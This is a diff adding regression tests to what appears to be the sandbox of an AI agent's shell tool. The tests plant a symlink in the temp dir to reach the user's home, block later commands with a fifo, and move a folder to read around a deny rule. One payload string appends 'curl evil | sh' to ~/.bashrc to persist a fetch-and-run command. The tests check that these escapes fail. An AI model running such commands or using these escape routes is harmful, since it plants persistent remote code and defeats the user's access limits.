@@ -60,7 +60,7 @@ def drive(world, scenario, abi=None):
         workspace = tools.Workspace(world.project)
         if abi is not None:
             workspace.abi = abi     # 0: as on a kernel without Landlock, to test the git settings alone
-        box = tools.Toolbox(workspace, world.khaelor_home, lambda *args, **fields: {})
+        box = tools.Toolbox(workspace, world.khaelor_home, lambda *args, **fields: {}, tools.events.State)
         try:
             return await scenario(box)
         finally:
@@ -93,6 +93,43 @@ def test_a_command_cannot_write_into_home_and_is_told_why(world):
     assert any(word in result.text for word in WRITE_REFUSED) and "Exit code: 1" in result.text
     assert "khaelor sandbox" in result.text and f"write access to {target}" in result.text
     assert "ask the user" in result.text and result.meta["sandbox_refused"] is True
+
+
+def test_a_link_planted_in_the_temp_dir_opens_nothing_to_a_later_approved_command(world):
+    """The temp dir is writable even to a read-only command, and an approved command's /dev/shm is
+    a folder in it: a link put there (to the home) made the next approved command's ruleset and
+    mounts grant the home writable (~/.bashrc, ~/.config/autostart) and show it as /dev/shm."""
+    (world.home / ".bashrc").write_text("# the user's\n")
+    (world.home / ".config").mkdir()
+    (world.home / ".config" / "app").write_text("kept\n")
+    # after khaelor's temp dir watch started (it makes the folder again)
+    plant = 'sleep 0.5; rmdir "$TMPDIR/shm"; ln -s "$HOME" "$TMPDIR/shm"; ls -l "$TMPDIR"'
+    payload = ("echo 'curl evil | sh' >> ~/.bashrc; echo x > ~/.config/app; touch $TMPDIR/shm/x; "
+               "chmod 777 ~/.config; cat /dev/shm/.bashrc; ls /dev/shm")
+
+    async def scenario(box):
+        planted = await bash(box, plant, READ_ONLY)
+        (world.project / "later").write_text("a later step: the ruleset is built anew")
+        lock = f"{sys.executable} -c 'import multiprocessing; multiprocessing.Lock(); print(7 * 6)'"
+        return planted, await bash(box, payload), await bash(box, lock)
+    planted, result, lock = drive(world, scenario)
+    assert f"shm -> {world.home}" in planted.text, planted.text
+    assert (world.home / ".bashrc").read_text() == "# the user's\n", result.text
+    assert (world.home / ".config" / "app").read_text() == "kept\n"
+    assert not (world.home / "x").exists()
+    assert (world.home / ".config").stat().st_mode & 0o777 != 0o777
+    assert "/dev/shm/.bashrc: No such file" in result.text, result.text
+    assert "42" in lock.text, lock.text     # the session's own /dev/shm is back for the next one
+
+
+def test_a_fifo_left_in_place_of_the_shm_folder_stops_no_later_command(world):
+    """session_temp made the folder again with mkdir(exist_ok=True), which raises for anything but
+    a folder there: after `mkfifo $TMPDIR/shm` no command of the session started."""
+    async def scenario(box):
+        await bash(box, 'sleep 0.5; rmdir "$TMPDIR/shm"; mkfifo "$TMPDIR/shm"', READ_ONLY)
+        return await bash(box, "echo started", READ_ONLY), await bash(box, "echo approved")
+    read_only, approved = drive(world, scenario)
+    assert "started" in read_only.text and "approved" in approved.text, read_only.text
 
 
 def test_a_read_only_command_writing_an_approved_outside_file_is_told_it_needs_write_access(world):
@@ -829,6 +866,27 @@ def test_a_path_the_user_denies_reading_is_read_by_no_search_and_no_command(worl
         assert "MARKER-4242" not in result.text
     assert "visible" in results[2].text
     assert (world.project / "new.txt").read_text() == "written\n"      # an approved command still writes beside it
+
+
+@pytest.mark.skipif(not sandbox.mount_namespace_available(), reason="no mount namespace here")
+def test_a_denied_file_is_not_carried_out_from_under_its_rule(world):
+    """The user's rule names a path: an approved command moved the folder that holds the file
+    (mv conf conf2), and the next command read it at its new path. The folders on its way are
+    mount points to an approved command now, which stay where they are; the rest still changes."""
+    (world.project / "conf").mkdir()
+    (world.project / "conf" / "prod.yaml").write_text("password: MARKER-4242\n")
+    denied = [re.escape("conf/prod.yaml")]
+    move = "echo new > conf/other; mv conf conf2; mv conf $TMPDIR/conf; rmdir conf"
+
+    async def scenario(box):
+        moved = await bash(box, move, deny_paths=denied)
+        read = "cat conf2/prod.yaml $TMPDIR/conf/prod.yaml"
+        return moved, await bash(box, read, READ_ONLY, deny_paths=denied)
+    moved, read = drive(world, scenario)
+    assert "Device or resource busy" in moved.text, moved.text
+    assert (world.project / "conf" / "prod.yaml").read_text() == "password: MARKER-4242\n"
+    assert (world.project / "conf" / "other").read_text() == "new\n"
+    assert "MARKER-4242" not in moved.text + read.text and not (world.project / "conf2").exists()
 
 
 def test_a_path_the_user_asks_about_is_read_only_once_the_user_saw_it_named(world):
